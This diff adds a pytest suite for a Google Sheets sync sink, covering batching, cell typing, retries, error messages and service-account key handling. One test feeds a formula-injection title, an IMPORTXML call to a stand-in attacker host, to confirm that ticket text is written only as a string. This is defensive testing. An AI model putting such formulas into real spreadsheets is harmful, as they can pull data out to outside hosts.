@@ -1,0 +1,293 @@
+"""The Google Sheets sink: real gspread, real google-auth service-account flow
+(a throwaway RSA key, the token endpoint mocked), a stateful Sheets fake."""
+from __future__ import annotations
+
+import copy
+import json
+from datetime import timedelta
+
+import pytest
+import responses
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+
+from connectors import retry
+from connectors.memory import MemorySource
+from connectors.sheets import SheetsSink, spreadsheet_id
+from sync.config import SheetsSinkConfig
+from sync.engine import run_once
+from sync.errors import ConfigError, GuardError, RemoteError, TransientError
+from sync.report import HEADERS, OWNED
+from sync.state import State
+
+from .conftest import NOW, fixture, make_config, ticket
+from .fakes_sheets import FakeSheets
+
+SA_EMAIL = "align-sync@growth-ops.iam.gserviceaccount.com"
+
+
+@pytest.fixture(scope="module")
+def private_key() -> str:
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                             serialization.NoEncryption()).decode()
+
+
+@pytest.fixture
+def key_file(tmp_path, private_key):
+    info = {"type": "service_account", "project_id": "growth-ops", "private_key_id": "0123abcd",
+            "private_key": private_key, "client_email": SA_EMAIL, "client_id": "1234567890",
+            "token_uri": "https://oauth2.googleapis.com/token"}
+    path = tmp_path / "sa.json"
+    path.write_text(json.dumps(info))
+    return path
+
+
+@pytest.fixture(autouse=True)
+def no_sleep(monkeypatch):
+    slept: list[float] = []
+    monkeypatch.setattr(retry, "sleep", slept.append)
+    return slept
+
+
+@pytest.fixture
+def fake():
+    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
+        yield FakeSheets(rsps)
+
+
+class Env:
+    def __init__(self, tmp_path, key_file, fake, **sink):
+        self.fake = fake
+        self.config = make_config(sink={"type": "google_sheets", "credentials": str(key_file),
+                                        "spreadsheet": f"https://docs.google.com/spreadsheets/d/{fake.id}/edit#gid=0",
+                                        **sink})
+        self.state = State(tmp_path / "state.db")
+
+    def sync(self, tickets, now=NOW, **kw):
+        sink = SheetsSink(self.config.sink)
+        return run_once(self.config, [MemorySource("jira", tickets)], sink, self.state, now, **kw)
+
+
+@pytest.fixture
+def env(tmp_path, key_file, fake):
+    e = Env(tmp_path, key_file, fake)
+    yield e
+    e.state.close()
+
+
+def summary(fake) -> dict:
+    return {row[0]: (row + [None])[1] for row in fake.values("Summary")[1:]}
+
+
+def tickets(*keys, **kw):
+    return [ticket(k, labels=("onboarding-email",), url=f"https://acme.atlassian.net/browse/{k}", **kw)
+            for k in keys]
+
+
+def test_first_sync_writes_every_tab_in_two_requests(env):
+    env.sync(tickets("A-1", "A-2"))
+    assert env.fake.sheet_calls() == ["GET 1sheetFAKEid", "POST 1sheetFAKEid:batchUpdate"]
+    assert env.fake.tokens == 1
+    for tab in OWNED[:-1] + ["History", "Metrics"]:
+        assert env.fake.values(tab)[0] == HEADERS[tab], tab
+    assert env.fake.values("Trend")[0][0] == "Timestamp"
+    assert env.fake.values("Metrics") == [HEADERS["Metrics"]]
+    assert "Sheet1" in env.fake.tabs                        # not ours: left alone
+    head = summary(env.fake)
+    assert head["Tickets in scope"] == 2 and head["Last sync"] == "2026-11-26T09:00:00Z"
+
+
+def test_every_later_sync_costs_three_requests(env):
+    env.sync(tickets("A-1", "A-2"))
+    env.fake.rsps.calls.reset()
+    env.sync(tickets("A-1", "A-2", "A-3"), now=NOW + timedelta(minutes=15))
+    assert env.fake.sheet_calls() == ["GET 1sheetFAKEid", "GET values:batchGet",
+                                      "POST 1sheetFAKEid:batchUpdate"]
+
+
+def test_cells_are_typed_and_ticket_text_never_a_formula(env):
+    env.sync([ticket("F-1", title='=IMPORTXML("https://evil.example/x","//a")', owner="+cmd",
+                     url="https://acme.atlassian.net/browse/F-1")])
+    row = env.fake.values("Tickets")[1]
+    assert row[2] == '=IMPORTXML("https://evil.example/x","//a")'
+    assert env.fake.cell("Tickets", 1, 2)["userEnteredValue"] == {
+        "stringValue": '=IMPORTXML("https://evil.example/x","//a")'}
+    assert env.fake.cell("Tickets", 1, 8)["userEnteredValue"] == {"numberValue": 2.0}   # Estimate
+    link = env.fake.cell("Tickets", 1, 0)["userEnteredFormat"]["textFormat"]["link"]
+    assert link == {"uri": "https://acme.atlassian.net/browse/F-1"}
+    body = json.dumps(env.fake.batches)
+    assert "formulaValue" not in body
+    assert env.fake.cell("Summary", 0, 0)["userEnteredFormat"]["textFormat"]["bold"] is True
+    assert env.fake.tabs["Tickets"]["frozen"] == 1
+
+
+def test_grids_are_sized_to_the_data(env):
+    env.sync(tickets(*[f"A-{i}" for i in range(30)]))
+    assert (env.fake.tabs["Tickets"]["rows"], env.fake.tabs["Tickets"]["cols"]) == (31, 15)
+    env.sync(tickets("A-1", "A-2", "A-3", "A-4", "A-5", "A-6", "A-7", "A-8", "A-9", "A-10",
+                     "A-11", "A-12", "A-13", "A-14", "A-15"), now=NOW + timedelta(minutes=5))
+    assert env.fake.tabs["Tickets"]["rows"] == 16
+    assert len(env.fake.values("Tickets")) == 16          # no stale rows left below
+
+
+def test_people_columns_survive_syncs_with_tickets_added_and_removed(env):
+    env.sync(tickets("A-1", "A-2", "A-3"))
+    tab = env.fake.tabs["Tickets"]
+    tab["cols"] = 17
+    tab["cells"][(0, 15)] = {"userEnteredValue": {"stringValue": "Notes"}}
+    tab["cells"][(0, 16)] = {"userEnteredValue": {"stringValue": "Points x2"}}
+    tab["cells"][(2, 15)] = {"userEnteredValue": {"stringValue": "blocked on legal"}}
+    tab["cells"][(2, 16)] = {"userEnteredValue": {"formulaValue": "=I3*2"}}
+    tab["cells"][(3, 15)] = {"userEnteredValue": {"numberValue": 42}}
+    env.sync(tickets("A-0", "A-2", "A-3"), now=NOW + timedelta(minutes=15))      # A-1 gone, A-0 new
+    env.sync(tickets("A-0", "A-2", "A-3", "A-4"), now=NOW + timedelta(minutes=30))
+    rows = {r[0]: r[15:] for r in env.fake.values("Tickets")[1:]}
+    assert env.fake.values("Tickets")[0][15:] == ["Notes", "Points x2"]
+    assert rows == {"A-0": [], "A-2": ["blocked on legal", "=I3*2"], "A-3": [42], "A-4": []}
+    assert env.fake.cell("Tickets", 2, 16)["userEnteredValue"] == {"formulaValue": "=I3*2"}
+
+
+def test_metrics_are_read_and_never_written(env):
+    env.sync(tickets("A-1"))
+    metrics = env.fake.tabs["Metrics"]
+    metrics["rows"] = 5
+    metrics["cells"].update({
+        (1, 0): {"userEnteredValue": {"numberValue": 46349}},          # a date cell: 2026-11-22
+        (1, 1): {"userEnteredValue": {"stringValue": "conv_rate"}},
+        (1, 2): {"userEnteredValue": {"numberValue": 7.5}},
+        (2, 0): {"userEnteredValue": {"stringValue": "2026-10-01"}},
+        (2, 1): {"userEnteredValue": {"stringValue": "conv_rate"}},
+        (2, 2): {"userEnteredValue": {"stringValue": "6.5%"}}})
+    before = copy.deepcopy(metrics)
+    env.sync(tickets("A-1"), now=NOW + timedelta(minutes=15))
+    assert env.fake.tabs["Metrics"] == before
+    scorecard = {r[0]: r for r in env.fake.values("Scorecard")[1:]}
+    assert scorecard["conv"][6] == 7.5 and scorecard["conv"][7] == 75.0
+
+
+def test_history_appended_once_per_period_and_charts_made_once(env):
+    env.sync(tickets("A-1"))
+    env.sync(tickets("A-1"), now=NOW + timedelta(hours=2))
+    env.sync(tickets("A-1"), now=NOW + timedelta(days=1))
+    stamps = [r[0] for r in env.fake.values("History")[1:]]
+    assert stamps == ["2026-11-26T09:00:00Z"] * 3 + ["2026-11-27T09:00:00Z"] * 3
+    assert len(env.fake.values("Trend")) == 3
+    charts = [c for t in env.fake.tabs.values() for c in t["charts"]]
+    assert len(charts) == 2
+    trend_chart = env.fake.tabs["Trend"]["charts"][0]["spec"]
+    assert trend_chart["basicChart"]["domains"][0]["domain"]["sourceRange"]["sources"][0]["endRowIndex"] == 3
+
+
+def test_persistent_500_leaves_the_sheet_as_it_was(env, no_sleep):
+    env.sync(tickets("A-1", "A-2"))
+    before = copy.deepcopy(env.fake.tabs)
+    env.fake.failures["update"] += [(500, {"error": {"code": 500, "message": "Internal error",
+                                                     "status": "INTERNAL"}})] * retry.ATTEMPTS
+    with pytest.raises(TransientError) as err:
+        env.sync(tickets("A-1", "A-2", "A-3"), now=NOW + timedelta(days=1))
+    assert err.value.exit_code == 1
+    after = env.fake.tabs
+    assert after.keys() == before.keys()
+    for tab in before:
+        if tab != "Summary":
+            assert after[tab] == before[tab], tab
+    # Only Summary's Last error changed, in one small write after the failure.
+    last_error = summary(env.fake)["Last error"]
+    assert "HTTP 500" in last_error
+    cells_before, cells_after = before["Summary"]["cells"], after["Summary"]["cells"]
+    changed = [k for k in cells_after if cells_after[k] != cells_before.get(k)]
+    assert changed == [(11, 1)]
+    assert len(no_sleep) == retry.ATTEMPTS - 1
+
+
+def test_guard_failure_writes_only_last_error(env):
+    env.sync(tickets(*[f"A-{i}" for i in range(10)]))
+    before = {tab: env.fake.values(tab) for tab in env.fake.tabs}
+    with pytest.raises(GuardError):
+        env.sync(tickets("A-1"), now=NOW + timedelta(days=1))
+    after = {tab: env.fake.values(tab) for tab in env.fake.tabs}
+    assert {t: v for t, v in after.items() if t != "Summary"} == \
+        {t: v for t, v in before.items() if t != "Summary"}
+    assert after["Summary"][:-1] == before["Summary"][:-1]
+    assert "under half" in after["Summary"][-1][1]
+
+
+def test_429_with_retry_after_then_success(env, no_sleep):
+    env.fake.failures["meta"].append((429, {"_headers": {"Retry-After": "7"}, "error": {
+        "code": 429, "message": "Quota exceeded for quota metric 'Read requests'",
+        "status": "RESOURCE_EXHAUSTED"}}))
+    env.sync(tickets("A-1"))
+    assert no_sleep == [7.0]
+    assert "Summary" in env.fake.tabs
+
+
+def test_403_says_whom_to_share_with(env):
+    body = json.loads(fixture("gspread_cassette_ClientTest.test_access_private_spreadsheet.json")
+                      ["interactions"][3]["response"]["body"]["string"])
+    env.fake.failures["meta"].append((403, body))
+    with pytest.raises(RemoteError) as err:
+        env.sync(tickets("A-1"))
+    assert "The caller does not have permission" in err.value.message
+    assert err.value.hint == f"share the spreadsheet with {SA_EMAIL} as Editor"
+
+
+def test_404_names_the_id(env):
+    env.fake.failures["meta"].append((404, {"error": {"code": 404, "message": "Requested entity was not found.",
+                                                      "status": "NOT_FOUND"}}))
+    with pytest.raises(RemoteError, match="no spreadsheet with id 1sheetFAKEid"):
+        env.sync(tickets("A-1"))
+
+
+@pytest.mark.parametrize("change,message", [
+    (lambda k: k.pop("client_email"), "the key has no client_email"),
+    (lambda k: k.update(type="authorized_user"), "expected 'service_account'"),
+    (lambda k: k.update(private_key="not a key"), "`private_key` is not a PEM private key"),
+])
+def test_invalid_key_file_names_the_field(tmp_path, key_file, fake, change, message):
+    info = json.loads(key_file.read_text())
+    change(info)
+    key_file.write_text(json.dumps(info))
+    sink = SheetsSink(SheetsSinkConfig(type="google_sheets", spreadsheet=fake.id, credentials=str(key_file)))
+    with pytest.raises(ConfigError, match=message):
+        sink.read()
+
+
+def test_key_json_from_an_environment_variable(key_file, fake):
+    sink = SheetsSink(SheetsSinkConfig(type="google_sheets", spreadsheet=fake.id,
+                                       credentials=key_file.read_text()))
+    assert sink.read().readings == []
+
+
+def test_edited_header_is_restored(env):
+    env.sync(tickets("A-1"))
+    env.fake.tabs["Levers"]["cells"][(0, 2)] = {"userEnteredValue": {"stringValue": "Lever name!"}}
+    env.sync(tickets("A-1"), now=NOW + timedelta(minutes=5))
+    assert env.fake.values("Levers")[0] == HEADERS["Levers"]
+
+
+def test_long_text_is_capped(env):
+    env.sync([ticket("L-1", title="x" * 60_000)])
+    title = env.fake.values("Tickets")[1][2]
+    assert len(title) == 50_000 and title.endswith("…")
+
+
+def test_owners_tab_off_removes_it(tmp_path, key_file, fake):
+    e = Env(tmp_path, key_file, fake)
+    e.sync(tickets("A-1"))
+    assert "Owners" in fake.tabs
+    (tmp_path / "second").mkdir()
+    e2 = Env(tmp_path / "second", key_file, fake, owners_tab=False)
+    e2.sync(tickets("A-1"), now=NOW + timedelta(minutes=5))
+    assert "Owners" not in fake.tabs
+
+
+def test_check(key_file, fake):
+    sink = SheetsSink(SheetsSinkConfig(type="google_sheets", spreadsheet=fake.id, credentials=str(key_file)))
+    out = sink.check()
+    assert "Growth alignment" in out and SA_EMAIL in out
+
+
+def test_spreadsheet_id_from_url_or_id():
+    assert spreadsheet_id("https://docs.google.com/spreadsheets/d/1AbC-_x9/edit#gid=0") == "1AbC-_x9"
+    assert spreadsheet_id("1AbC-_x9") == "1AbC-_x9"
